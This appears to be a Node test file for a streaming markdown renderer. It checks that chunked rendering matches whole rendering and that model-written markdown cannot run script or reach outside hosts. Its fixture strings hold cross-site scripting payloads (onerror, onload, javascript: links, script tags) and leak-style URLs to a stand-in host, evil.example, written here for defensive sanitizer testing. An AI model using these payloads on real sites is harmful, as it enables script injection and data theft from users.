import assert from 'node:assert/strict';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { mkdtemp, readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { build } from 'vite';

const root = resolve(import.meta.dirname, '../..');

/** The renderer by itself, as one script that can be put into a page through the debugger. */
async function bundle() {
  const out = await mkdtemp(join(tmpdir(), 'magic-proxy-renderer-'));
  try {
    await build({
      root,
      configFile: false,
      logLevel: 'error',
      build: {
        outDir: out,
        lib: {
          entry: join(root, 'src/lib/markdown/stream.ts'),
          formats: ['iife'],
          name: 'renderer',
          fileName: 'renderer',
        },
        rolldownOptions: { output: { entryFileNames: 'renderer.js' } },
      },
      publicDir: false,
    });
    return await readFile(join(out, 'renderer.js'), 'utf8');
  } finally {
    await rm(out, { recursive: true, force: true });
  }
}

const DOCUMENTS = [
  '# T\n\nOne *two*.\n\n- a\n- b\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```js\nx();\n```\n\n> q\n> r\n\nend\n',
  '1. a\n\n2. b\n\n   para\n\n   ```js\n   x()\n   ```\n3. c\n\ntext\n===\n\nmore\n',
  '~~~md\n```\ninner\n```\n~~~\nafter\n\n> q\nlazy\n>\n> - l\n>   - m\n',
  '````\n```\nnested\n```\n````\n\n- [ ] t\n- [x] u\n\n***\n\n**b** `c` <b>html</b>\n\n[ref][1]\n\n[1]: https://e.example\n',
  'Проверка: **жирный** и `код`\n\n# H\npara\n- a\n\n\n- c\n',
  '```\nunclosed\ncode `` x\n',
];

const EVIL = [
  '<img src=x onerror="window.harm=1"> ![p](https://evil.example/?leak=1) <script>window.harm=1</script>\n\n',
  '<svg onload="window.harm=1"></svg><iframe src="javascript:window.harm=1"></iframe>\n\n',
  '[a](javascript:window.harm=1) <a href="data:text/html,hi">d</a> [ok](https://other.example/x)\n\n',
  '<form action=//evil.example><input name=q></form><style>*{display:none}</style><link rel=stylesheet href=//evil.example>\n\n',
  '<div style="background:url(https://evil.example/2)" id=app class=btn>y</div><img srcset="https://evil.example/3 1x">\n',
].join('');

export function renderer(scene) {
  test('a text that grows in pieces ends as if it had come at once', async () => {
    const visit = await scene.browser.visit(scene.gateway.url);
    await visit.page.evaluate(await bundle());
    const differing = await visit.page.evaluate(documents => {
      const { MarkdownStream, renderMarkdown } = window.renderer;
      const squeeze = html => html.replace(/\s+/g, '');
      let seed = 7;
      const random = n => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n;
      const found = [];
      for (const text of documents)
        for (let round = 0; round < 40; round++) {
          const host = document.createElement('div');
          document.body.append(host);
          const stream = new MarkdownStream(host);
          for (let at = 0; at < text.length;) {
            const size = 1 + random(round < 20 ? 3 : 24);
            stream.push(text.slice(at, at + size));
            at += size;
            stream.draw(performance.now());
          }
          stream.end();
          const whole = document.createElement('div');
          renderMarkdown(text, whole);
          if (squeeze(host.innerHTML) !== squeeze(whole.innerHTML)) found.push(text);
          host.remove();
        }
      return [...new Set(found)];
    }, DOCUMENTS);
    assert.deepEqual(differing, []);
    await visit.done();
  });

  test('what a model writes neither runs nor asks another host, until a reader wants it', async () => {
    const visit = await scene.browser.visit(scene.gateway.url);
    const { page } = visit;
    await page.evaluate(await bundle());
    const found = await page.evaluate(evil => {
      const host = document.createElement('div');
      document.body.append(host);
      const stream = new window.renderer.MarkdownStream(host);
      for (const letter of evil) {
        stream.push(letter);
        stream.draw(performance.now());
      }
      stream.end();
      const foreign =
        'script,iframe,style,form,input,link,svg,img,a,object,embed,[style],[id],[class],[onerror],[srcset]';
      return {
        foreign: [...host.querySelectorAll(foreign)].map(element => element.outerHTML),
        standIns: [...host.querySelectorAll('[role=button]')].map(element => element.title),
        shown: host.textContent,
      };
    }, EVIL);
    assert.equal(await page.evaluate(() => window.harm), undefined);
    assert.deepEqual(found.foreign, []);
    assert.deepEqual(found.standIns, ['https://evil.example/?leak=1', 'https://other.example/x']);
    assert.match(found.shown, /<script>window\.harm=1<\/script>/);
    await visit.done();
  });
}
